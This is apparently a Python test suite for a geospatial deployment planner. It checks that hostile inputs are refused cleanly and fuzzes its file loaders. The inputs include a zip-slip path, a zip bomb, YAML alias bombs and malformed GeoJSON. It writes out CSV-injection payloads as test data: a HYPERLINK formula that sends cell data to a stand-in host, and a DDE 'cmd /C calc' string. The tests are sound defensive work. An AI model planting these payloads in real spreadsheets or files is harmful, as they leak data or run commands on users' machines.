"""Hostile input: every file of the corpus under tests/data/hostile/ is refused with exit 2 and
a message naming the file (and the feature and field where the file has them), never a
traceback, never a partial write; the app's upload paths refuse the same files; and every
loader, fed random GeoJSON-like and YAML-like structures, lets only our own error escape."""
import contextlib
import io
import json
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.errors import InputError
from planner.cli import main

HOSTILE = Path(__file__).parent / "data" / "hostile"

# file -> what the error must say besides the file's name
LAYERS = {
    "invalid-json.geojson": ["cannot read"],
    "crs-projected.geojson": ["field 'crs'", "EPSG:32636", "WGS84"],
    "out-of-range.geojson": ["feature 0 (id 'far')", "field 'geometry'", "lon/lat range"],
    "self-intersecting.geojson": ["feature 0 (id 'bowtie')", "field 'geometry'",
                                  "Self-intersection"],
    "unclosed-ring.geojson": ["feature 0 (id 'open')", "field 'geometry'", "not closed"],
    "empty-collection.geojson": ["no features"],
    "wrong-geometry.geojson": ["feature 0 (id 'pt')", "field 'geometry'", "expected a polygon"],
    "nested-geometrycollection.geojson": ["feature 0 (id 'nest')", "GeometryCollection"],
    "nan-coordinates.geojson": ["feature 0 (id 'nan')", "field 'geometry'", "finite"],
    "three-d.geojson": ["feature 0 (id 'z')", "field 'geometry'", "3D coordinates"],
    "not-utf8.geojson": ["not UTF-8"],
    "null-geometry.geojson": ["feature 0 (id 'nothing')", "field 'geometry'", "missing"],
    "invalid-once-projected.geojson": ["feature 0 (id 'notch')", "field 'geometry'",
                                       "once projected to EPSG:32636", "Self-intersection"],
    "zip-slip.zip": ["field 'member'", "../../evil.shp", "unsafe path"],
    "zip-bomb.zip": ["field 'member'", "bomb.shp", "zip bomb"],
}
PLANS = {
    "invalid-json.geojson": ["invalid JSON"],
    "nan-troops.geojson": ["NaN"],
    "infinity-troops.geojson": ["Infinity"],
    "duplicate-sector.geojson": ["feature 1 (id 'P1-S01')", "field 'sector_id'", "duplicate"],
    "missing-sector-id.geojson": ["feature 0", "field 'sector_id'"],
    "unknown-sector.geojson": ["feature 0 (id 'P9-S99')", "field 'sector_id'", "unknown sector"],
    "wrong-types.geojson": ["feature 0 (id 'P1-S01')", "field 'phase'", "'one'"],
    "empty-collection.geojson": ["no rows"],
    "not-a-collection.geojson": ["field 'type'", "FeatureCollection"],
    "unknown-nation.csv": ["row 1 (line 2) (id 'P1-S01')", "column 'nation'", "unknown nation"],
    "negative-troops.csv": ["row 1 (line 2) (id 'P1-S01')", "column 'troops'", "'-300'"],
    "not-utf8.csv": ["not UTF-8"],
    "wrong-columns.csv": ["line 1", "missing columns phase, sector_id, nation, troops, lead"],
    "formula-sector-id.csv": ["row 1 (line 2)", "column 'sector_id'", "=HYPERLINK",
                              "unknown sector"],
}
SCENARIOS = {
    "unknown-key": ["field 'favourite_colour'", "unknown key"],
    "wrong-types": ["field 'phases'", "must be a list"],
    "alias-bomb": ["aliases"],
    "not-utf8": ["not UTF-8"],
    "not-a-mapping": ["must be a mapping"],
    "swapped-coordinates": ["places.geojson", "feature 0 (id 'Gaza City')", "field 'geometry'",
                            "longitude and latitude look swapped"],
    "population-invalid-once-projected": ["population.geojson", "feature 5 (id 'notch')",
                                          "field 'geometry'", "once projected to EPSG:32636",
                                          "geography.repair: true"],
    "sectors-invalid-once-projected": ["sectors.geojson", "feature 24 (id 'P1-S99')",
                                       "field 'geometry'", "once projected to EPSG:32636"],
    "crs-in-feet": ["scenario.yaml", "field 'crs'", "'EPSG:2263'", "in metres",
                    "US survey foot"],
    "formula-sector-id": ["sectors.geojson", "feature 0", "field 'sector_id'", "=HYPERLINK",
                          "must be an identifier"],
    "formula-contingent-code": ["scenario.yaml", "contingent 7", "field 'code'", "'@SUM(1+1)'",
                                "must be an identifier"],
}
CASES = ([("layers", n, ["layers", "validate", str(HOSTILE / "layers" / n), "--geometry",
                         "polygon"], w) for n, w in LAYERS.items()]
         + [("plans", n, ["check", str(HOSTILE / "plans" / n)], w) for n, w in PLANS.items()]
         + [("scenarios", n, ["scenario", "inspect", str(HOSTILE / "scenarios" / n)], w)
            for n, w in SCENARIOS.items()])


def run_cli(argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


def test_the_corpus_is_complete():
    on_disk = {(p.parent.name, p.name) for p in (HOSTILE / "layers").iterdir()} \
        | {(p.parent.name, p.name) for p in (HOSTILE / "plans").iterdir()} \
        | {("scenarios", p.name) for p in (HOSTILE / "scenarios").iterdir()}
    assert on_disk == {(kind, name) for kind, name, _, _ in CASES}
    assert len(CASES) >= 25


@pytest.mark.parametrize("kind,name,argv,wanted", CASES, ids=[f"{c[0]}/{c[1]}" for c in CASES])
def test_cli_refuses_each_hostile_file_with_exit_2_naming_file_feature_and_field(
        kind, name, argv, wanted):
    code, out, err = run_cli(argv)
    assert code == 2, out + err
    assert err.startswith("error: ") and "Traceback" not in err
    assert name in err
    for text in wanted:
        assert text in err


def test_a_polygon_of_a_million_vertices_is_refused_not_loaded(tmp_path):
    import math
    n = 1_000_000
    ring = [[34.4 + 0.01 * math.cos(2 * math.pi * i / n), 31.4 + 0.01 * math.sin(2 * math.pi * i / n)]
            for i in range(n)]
    ring.append(ring[0])
    path = tmp_path / "huge.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": "huge"},
         "geometry": {"type": "Polygon", "coordinates": [ring]}}]}), encoding="utf-8")
    code, _, err = run_cli(["layers", "validate", str(path)])
    assert code == 2 and "feature 0 (id 'huge')" in err and "1,000,001 vertices" in err


def test_failed_commands_leave_existing_outputs_untouched(tmp_path):
    target = tmp_path / "plan.geojson"
    target.write_text("precious", encoding="utf-8")
    bad = HOSTILE / "scenarios" / "swapped-coordinates"
    for argv in (["solve", str(bad), "-o", str(target)],
                 ["sectors", str(bad), "--phase", "1", "--count", "3", "-o", str(target)],
                 ["plans", "export", "nope", "--workspace", str(tmp_path), "-o", str(target)]):
        code, _, err = run_cli(argv)
        assert code == 2, err
        assert target.read_text(encoding="utf-8") == "precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.geojson"]  # no store made


def test_csv_we_write_never_starts_a_cell_with_a_formula_and_reads_back_the_same(
        tmp_path, mini_dir):
    import csv

    from planner.domain.plan import Assignment, Plan
    from planner.domain.sectors import sector_table
    from planner.files.planfile import FORMULA_START, plan_csv, read_plan
    from planner.files.scenario_file import load_scenario
    doc = yaml.safe_load((mini_dir / "scenario.yaml").read_text(encoding="utf-8"))
    doc["name"] = '=HYPERLINK("http://x.invalid/?"&A1,"click")'  # names are free text
    (mini_dir / "scenario.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    scenario = load_scenario(mini_dir)
    table = sector_table(scenario)
    plan = Plan.from_assignments([Assignment(1, "P1-S01", "AAA", {"AAA": 60, "BBB": 10})])
    text = plan_csv(plan, table, mandate="chapter-vi", plan_name="@cmd|' /C calc'!A0",
                    revision=3)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")" in cells
    assert "'@cmd|' /C calc'!A0" in cells
    path = tmp_path / "plan.csv"
    path.write_text(text, encoding="utf-8")
    assert read_plan(path, table, [c.code for c in scenario.contingents]) == plan


def test_app_upload_paths_refuse_every_hostile_plan_and_layer(gaza, tmp_path):
    from planner.ui.uploads import import_plan, scenario_with_layer
    from planner.domain.sectors import sector_table
    table, codes = sector_table(gaza), [c.code for c in gaza.contingents]
    for name in PLANS:
        with pytest.raises(InputError) as err:
            import_plan(name, (HOSTILE / "plans" / name).read_bytes(), table, codes)
        assert name in str(err.value)
    for i, name in enumerate(LAYERS):
        if name.endswith(".geojson") or name.endswith(".zip"):
            with pytest.raises(InputError) as err:
                scenario_with_layer(gaza, "territory", name, (HOSTILE / "layers" / name).read_bytes(),
                                    tmp_path / str(i))
            assert "Traceback" not in str(err.value)


# --- fuzzing: only InputError escapes --------------------------------------------------------
FUZZ = settings(max_examples=300, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])
scalars = st.one_of(st.none(), st.booleans(), st.integers(-10**6, 10**6),
                    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=12),
                    st.sampled_from(["Feature", "FeatureCollection", "Polygon", "Point",
                                     "P1-S01", "IDN", "phase", "sector_id", "lead"]))
json_like = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=5),
    st.dictionaries(st.sampled_from(["type", "features", "properties", "geometry",
                                     "coordinates", "phase", "sector_id", "lead", "troops_IDN",
                                     "locked", "crs", "name", "x"]), inner, max_size=5)),
    max_leaves=25)
geojson_like = st.builds(
    lambda feats: {"type": "FeatureCollection", "features": feats},
    st.lists(st.one_of(json_like, st.builds(
        lambda g, p: {"type": "Feature", "geometry": g, "properties": p},
        st.one_of(json_like, st.builds(lambda t, c: {"type": t, "coordinates": c},
                                       st.sampled_from(["Polygon", "Point", "LineString",
                                                        "MultiPolygon", "Nope"]), json_like)),
        json_like)), max_size=4)) | json_like


def dump(value) -> str:
    return json.dumps(value, allow_nan=True)


@FUZZ
@given(doc=geojson_like)
def test_fuzz_plan_geojson_reader(doc, gaza_table_codes, tmp_path):
    from planner.files.planfile import read_plan
    path = tmp_path / "plan.geojson"
    path.write_text(dump(doc), encoding="utf-8")
    try:
        read_plan(path, *gaza_table_codes)
    except InputError:
        pass


@FUZZ
@given(text=st.text(alphabet=st.sampled_from(list("phase,sector_id,nation,troops,lead\n"
                                                    "P1-S01IDN0123456789-.,\"\x00é ")),
                    max_size=200))
def test_fuzz_plan_csv_reader(text, gaza_table_codes, tmp_path):
    from planner.files.planfile import read_plan
    path = tmp_path / "plan.csv"
    path.write_text(text, encoding="utf-8")
    try:
        read_plan(path, *gaza_table_codes)
    except InputError:
        pass


@FUZZ
@given(doc=geojson_like)
def test_fuzz_layer_reader(doc, tmp_path):
    from geo.layers import read_layer
    path = tmp_path / "layer.geojson"
    path.write_text(dump(doc), encoding="utf-8")
    for kind in (None, "polygon"):
        try:
            read_layer(path, geometry=kind)
        except InputError:
            pass


yaml_like = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4),
    st.dictionaries(st.sampled_from(["name", "crs", "layers", "phases", "mandates",
                                     "contingents", "vetoes", "rules", "troop_unit",
                                     "geography", "sectoring", "phase", "code", "troops",
                                     "kind", "params", "territory", "x"]), inner, max_size=6)),
    max_leaves=30)


@FUZZ
@given(doc=yaml_like)
def test_fuzz_scenario_loader(doc, tmp_path):
    from planner.files.scenario_file import load_scenario
    (tmp_path / "scenario.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    try:
        load_scenario(tmp_path)
    except InputError:
        pass


@pytest.fixture(scope="module")
def gaza_table_codes(gaza):
    from planner.domain.sectors import sector_table
    return sector_table(gaza), [c.code for c in gaza.contingents]
